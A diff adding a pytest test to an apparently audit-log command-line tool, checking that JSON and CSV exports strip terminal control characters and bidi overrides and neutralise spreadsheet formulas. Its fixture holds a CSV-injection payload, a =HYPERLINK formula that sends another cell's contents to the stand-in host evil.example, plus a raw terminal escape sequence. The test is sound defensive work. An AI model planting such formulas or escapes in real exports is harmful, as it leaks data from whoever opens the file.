@@ -115,3 +115,27 @@ def test_verify_still_names_the_recording_it_could_not_read(tmp_path, capsys):
     code, out = run(capsys, folder, "verify")
     assert code == 1 and "audit-000009-20261203T000000Z.mitm" in out
     assert auditlog.index_files(folder)
+
+
+def test_exports_carry_no_control_and_no_spreadsheet_formula(tmp_path, capsys):
+    """`list --json` and `export` wrote JSON with ensure_ascii=False: C1 controls (8-bit CSI) and bidi overrides
+    reached the terminal raw, and CSV cells starting with `=`, `+`, `-`, `@` (a model name, a method: any token
+    is one) are formulas in the spreadsheet the CSV is opened in (`=HYPERLINK(...)` sends other cells away)."""
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"open")'
+    folder = hostile_folder(tmp_path / "rec", {"event": "flow", "seq": 1, "flow_id": "abcdefgh-1",
+                                               "time": "2026-12-03T00:00:00.000Z", "model": formula,
+                                               "identity": "ali\u202ece\x9b2J", "method": "-1+1",
+                                               "path": "/v1/caf\u00e9", "reason": "@SUM(1)"})
+    for args in (["list", "--json"], ["export"]):
+        code, out = run(capsys, folder, *args)
+        assert code == 0 and not any(c in out for c in CONTROLS), (args, out)
+        [record, *_] = [json.loads(line) for line in out.splitlines()]
+        assert record["identity"] == "ali\u202ece\x9b2J" and record["path"] == "/v1/caf\u00e9"  # the same data
+        assert "caf\u00e9" in out  # letters stay letters
+    code, out = run(capsys, folder, "export", "--format", "csv")
+    assert code == 0 and not any(c in out for c in CONTROLS)
+    import csv
+    import io
+    [row, *_] = list(csv.DictReader(io.StringIO(out)))
+    assert row["model"] == "'" + formula and row["method"] == "'-1+1" and row["reason"] == "'@SUM(1)"
+    assert row["path"] == "/v1/caf\u00e9" and row["seq"] == "1"
